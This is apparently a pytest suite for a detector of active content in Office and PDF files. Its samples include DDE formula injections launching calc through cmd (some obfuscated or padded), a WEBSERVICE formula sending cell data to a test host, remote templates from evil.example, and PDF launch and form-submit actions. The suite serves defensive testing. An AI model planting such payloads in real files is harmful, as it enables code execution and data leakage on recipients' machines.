"""What acts when a file is opened is told from what ordinary files hold."""

from __future__ import annotations

import io
import time
import zipfile

import pytest
import xlsxwriter

from lib.active_content import ActiveContent, find_active_content
from lib.file_types import DOCX, PDF, XLSX, tell_type

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
TYPES = f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{PACKAGE}/content-types"/>'
PICTURE = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89\x00\x00\x00\n"
    b"IDATx\x9cc\x00\x01\x00\x00\x05\x00\x01\r\n-\xb4\x00\x00\x00\x00IEND\xaeB`\x82"
)


def workbook(write=None, **parts):
    """As a program writes it, with further parts."""
    kept = io.BytesIO()
    book = xlsxwriter.Workbook(kept)
    sheet = book.add_worksheet("Meters | 电表")
    sheet.write_row(0, 0, ["kWh | month", 4200])
    sheet.write_formula("B2", "=SUM(B1:B1)*1.06")
    if write:
        write(book, sheet)
    book.close()
    with zipfile.ZipFile(kept, "a") as archive:
        for name, body in parts.items():
            archive.writestr(name, body)
    return kept


def relationship(kind, target, mode=' TargetMode="External"'):
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PACKAGE}/relationships">'
        f'<Relationship Id="rId1" Type="{OFFICE}/styles" Target="styles.xml"/>'
        f'<Relationship Id="rId9" Type="{OFFICE}/{kind}" Target="{target}"{mode}/></Relationships>'
    )


def document(body="<w:p/>", **parts):
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        archive.writestr("_rels/.rels", relationship("officeDocument", "word/document.xml", ""))
        archive.writestr("word/document.xml", f"<w:document><w:body>{body}</w:body></w:document>")
        for name, text in parts.items():
            archive.writestr(name, text)
    return kept


def formula(text):
    return workbook(lambda book, sheet: sheet.write_formula("C1", text))


def defined(text):
    return workbook(lambda book, sheet: book.define_name("Rate", text))


def chart(book, sheet):
    drawn = book.add_chart({"type": "line"})
    drawn.add_series({"values": "='Meters | 电表'!$B$1:$B$2"})
    sheet.insert_chart("D4", drawn)
    sheet.insert_image("D20", "a.png", {"image_data": io.BytesIO(PICTURE)})
    sheet.write_url("A9", "https://www.gov.cn/", string="notice")
    sheet.write_formula("B4", '=IF(\'Meters | 电表\'!B1>1,"a|b","it\'s | so")')
    sheet.data_validation("B5", {"validate": "list", "source": ["a|b", "c"]})
    book.define_name("Rate", "='Meters | 电表'!$B$1")


DOCUMENT_RELS = "word/_rels/document.xml.rels"
SETTINGS_RELS = "word/_rels/settings.xml.rels"
CUT_FIELD = (
    "<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText xml:space='preserve'>EAUTO </w:instrText></w:r>"
    '<w:r><w:instrText>c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r>'
)
TAKEN = {
    "workbook": (workbook(), XLSX),
    "workbook with chart, picture, address and strokes in words": (workbook(chart), XLSX),
    "workbook with printer settings": (workbook(**{"xl/printerSettings/printerSettings1.bin": b"\x00\x01"}), XLSX),
    "document": (document(), DOCX),
    "document with an address": (document(**{DOCUMENT_RELS: relationship("hyperlink", "https://www.gov.cn/")}), DOCX),
    "document with a template on a disk": (
        document(**{SETTINGS_RELS: relationship("attachedTemplate", "file:///C:\\Users\\wu\\Letter.dotx")}),
        DOCX,
    ),
    "document with the figures of a chart": (
        document(**{"word/embeddings/Microsoft_Excel_Worksheet1.xlsx": b"PK\x03\x04"}),
        DOCX,
    ),
    "document with fields": (
        document("<w:r><w:instrText> PAGE </w:instrText></w:r><w:fldSimple w:instr=' TOC \\o \"1-3\" '/>"),
        DOCX,
    ),
    "invoice with its figures": (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction[3 0 R /XYZ null null 0]/AF[7 0 R]/Names<</EmbeddedFiles"
        b"<</Names[(invoice.xml) 7 0 R]>>>>>>endobj 7 0 obj<</Type/Filespec/F(invoice.xml)/EF<</F 8 0 R>>>>endobj"
        b" 8 0 obj<</Type/EmbeddedFile/Subtype/text#2Fxml/Length 10>>stream\n<Invoice/>\nendstream endobj\n%%EOF",
        PDF,
    ),
    "PDF that opens on a page, with an address": (
        b"%PDF-1.7\n<</Type/Catalog/OpenAction<</S/GoTo/D[3 0 R /Fit]>>>>"
        b"<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://www.gov.cn/)>>>>\n%%EOF",
        PDF,
    ),
}
SENT_FOR, EMBEDDED, SCRIPT, UNREADABLE = (
    ActiveContent.SENT_FOR,
    ActiveContent.EMBEDDED,
    ActiveContent.SCRIPT,
    ActiveContent.UNREADABLE,
)
REFUSED = {
    "formula of another program": (formula("=cmd|'/C calc'!A0"), SENT_FOR),
    "formula of another program in the midst": (formula("=1+MSEXCEL|'\\..\\cmd.exe /c calc'!''"), SENT_FOR),
    "formula that fetches": (formula('=_xlfn.WEBSERVICE("http://192.0.2.1/?a="&B1)'), SENT_FOR),
    "name of another program": (defined("=cmd|'/C calc'!A0"), SENT_FOR),
    "stroke between pieces": (
        workbook(**{"xl/worksheets/sheet7.xml": " " * (1024 * 1024 - 6) + "<c><f>cmd|'/C calc'!A0</f></c>"}),
        SENT_FOR,
    ),
    "connection": (workbook(**{"xl/connections.xml": "<connections/>"}), SENT_FOR),
    "connection in other letters": (workbook(**{"xl\\Connections.XML": "<connections/>"}), SENT_FOR),
    "query": (workbook(**{"xl/queryTables/queryTable1.xml": "<queryTable/>"}), SENT_FOR),
    "linked workbook": (workbook(**{"xl/externalLinks/externalLink1.xml": "<externalLink/>"}), SENT_FOR),
    "table of another file": (
        workbook(**{"xl/pivotCache/_rels/pivotCacheDefinition1.xml.rels": relationship("externalLinkPath", "b.xlsx")}),
        SENT_FOR,
    ),
    "template of the network": (
        document(**{SETTINGS_RELS: relationship("attachedTemplate", "https://evil.example/t.dotm")}),
        SENT_FOR,
    ),
    "template of a share": (
        document(**{SETTINGS_RELS: relationship("attachedTemplate", "file:///\\\\192.0.2.1\\s\\t.dotm")}),
        SENT_FOR,
    ),
    "linked picture": (document(**{DOCUMENT_RELS: relationship("image", "http://192.0.2.1/p.png")}), SENT_FOR),
    "linked object": (document(**{DOCUMENT_RELS: relationship("oleObject", "mhtml:http://192.0.2.1/x")}), SENT_FOR),
    "link in single quotes": (
        document(**{DOCUMENT_RELS: relationship("image", "http://a.example/").replace('"', "'")}),
        SENT_FOR,
    ),
    "field of another program": (document(CUT_FIELD), SENT_FOR),
    "simple field of another program": (document("<w:fldSimple w:instr=' DDE excel a.xls r1c1 '/>"), SENT_FOR),
    "object": (document(**{"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}), EMBEDDED),
    "object in a workbook": (workbook(**{"xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}), EMBEDDED),
    "document with macros inside": (document(**{"word/embeddings/a.docm": b"PK\x03\x04"}), EMBEDDED),
    "control": (document(**{"word/activeX/activeX1.bin": b"\x00"}), SCRIPT),
    "macros": (workbook(**{"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), SCRIPT),
    "form that is sent away": (b"%PDF-1.7\n<</S/SubmitForm/F<</FS/URL/F(https://evil.example/)>>>>\n%%EOF", SCRIPT),
    "form that is filled from elsewhere": (b"%PDF-1.7\n<</S/ImportData/F(a.fdf)>>\n%%EOF", SCRIPT),
    "address called when opened": (b"%PDF-1.7\n<</OpenAction<</S/URI/URI(https://evil.example/)>>>>\n%%EOF", SCRIPT),
    "program": (b"%PDF-1.7\n<</OpenAction<</S/#4caunch/F(cmd.exe)>>>>\n%%EOF", SCRIPT),
}


def opened(body):
    return io.BytesIO(body) if isinstance(body, bytes) else io.BytesIO(body.getvalue())


@pytest.mark.parametrize("name", TAKEN)
def test_what_ordinary_files_hold_is_taken(name):
    body, kind = TAKEN[name]
    assert tell_type(opened(body)) is kind
    assert find_active_content(opened(body), kind) is None


@pytest.mark.parametrize("name", REFUSED)
def test_what_acts_or_reaches_out_is_found(name):
    body, what = REFUSED[name]
    kind = tell_type(opened(body))
    assert kind in {PDF, XLSX, DOCX}
    assert find_active_content(opened(body), kind) is what


LONG = 9_000
HOSTILE = [
    "<f ",
    "<f>",
    "<f><",
    "<f>1</f>",
    "<f a='",
    '<f>"',
    "<f>'",
    "&#49;",
    "<w:instrText ",
    "<x instr=",
    "a" * LONG,
]


@pytest.mark.parametrize("mark", HOSTILE)
def test_hostile_text_takes_no_time_of_its_own(mark):
    """Each of these would be looked at again from every place of the text, were it not for their bounds."""
    text = mark * (4_000_000 // len(mark)) + "<f>|</f><w:instrText>DDE</w:instrText>"
    began = time.process_time()
    for kind, name in ((XLSX, "xl/worksheets/sheet7.xml"), (DOCX, "word/a.xml")):
        assert find_active_content(opened(workbook(**{name: text})), kind) in {SENT_FOR, UNREADABLE}
    assert time.process_time() - began < 5


@pytest.mark.parametrize(
    "relations",
    [
        "<Relationship " + "a" * LONG,
        "<!DOCTYPE a [<!ENTITY b 'c'>]><Relationships/>",
        f"<a>{' ' * 4 * 1024 * 1024}</a>",
        '<Relationships><Relationship Target="&#' + "9" * 5000 + ';"/></Relationships>',
    ],
    ids=["broken", "definitions", "too much", "no character"],
)
def test_lists_of_parts_that_cannot_be_read_are_refused(relations):
    assert find_active_content(opened(document(**{DOCUMENT_RELS: relations})), DOCX) is UNREADABLE


@pytest.mark.parametrize("space", ["\n" * LONG, " xmlns:r='a' "], ids=["far apart", "namespaces"])
@pytest.mark.parametrize("encoding", ["UTF-8", "UTF-16", "ISO-8859-1"])
def test_lists_of_parts_are_read_however_they_are_written(encoding, space):
    text = (
        relationship("image", "http://a.example/")
        .replace("UTF-8", encoding)
        .replace("<Relationship ", "<Relationship " + space)
    )
    assert find_active_content(opened(document(**{DOCUMENT_RELS: text.encode(encoding)})), DOCX) is SENT_FOR


@pytest.mark.parametrize(
    "written",
    [
        "<c><f>cmd&#124;'/C calc'!A0</f></c>",
        "<c><f>cmd&#x7C;'/C calc'!A0</f></c>",
        "<c><f><![CDATA[cmd|'/C calc'!A0]]></f></c>",
        "<c><f>1+<!-- --></f></c>",
        "<c><f>1</f></c>".encode("utf-16"),
        '<?xml version="1.0" encoding="UTF-7"?><c/>',
        "<c><f>" + "1+" * 1024 * 1024,
    ],
    ids=["number", "hexadecimal", "data", "comment", "sixteen bits", "encoding", "endless"],
)
def test_sheets_written_as_no_program_writes_them_are_refused(written):
    assert find_active_content(opened(workbook(**{"xl/worksheets/sheet7.xml": written})), XLSX) is UNREADABLE


@pytest.mark.parametrize(
    "written",
    [
        '<f a=\'>"\' >cmd|""!A1</f>',
        "<x:f\n>cmd|'a'!A1</x:f>",
        "<é:f>cmd|'a'!A1</é:f>",
        f"<f a='{'b' * 50_000}'>cmd|'a'!A1</f>",
    ],
    ids=["bracket in quotes", "namespace", "foreign namespace", "long attribute"],
)
def test_formulas_are_found_however_their_tags_are_written(written):
    padded = " " * (1024 * 1024 - 20) + written
    assert find_active_content(opened(workbook(**{"xl/worksheets/sheet7.xml": padded})), XLSX) is SENT_FOR


def test_words_of_a_field_are_put_together_across_pieces():
    cut = "<w:p><w:instrText>DD</w:instrText></w:p>" + "<w:p/>" * 200_000 + "<w:instrText>E a</w:instrText>"
    assert find_active_content(opened(document(cut)), DOCX) is SENT_FOR


def test_a_broken_part_is_refused():
    whole = workbook(**{"xl/a.xml": "<a/><a/>"}).getvalue()
    assert find_active_content(opened(whole), XLSX) is None
    assert find_active_content(opened(whole.replace(b"<a/><a/>", b"<b/><b/>")), XLSX) is UNREADABLE


@pytest.mark.parametrize(
    ("packing", "size", "found"),
    [
        (zipfile.ZIP_STORED, 32 * 1024 * 1024, UNREADABLE),
        (zipfile.ZIP_DEFLATED, 5 * 1024 * 1024, UNREADABLE),
        (zipfile.ZIP_STORED, 5 * 1024 * 1024, None),
        (zipfile.ZIP_DEFLATED, 3 * 1024 * 1024, None),
    ],
    ids=["too much", "packed too well", "much", "packed well"],
)
def test_so_much_is_looked_through(packing, size, found):
    heavy = io.BytesIO()
    with zipfile.ZipFile(heavy, "w", packing) as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        archive.writestr("xl/workbook.xml", "<workbook/>" + "<a/>" * (size // 4))
    assert find_active_content(heavy, XLSX) is found
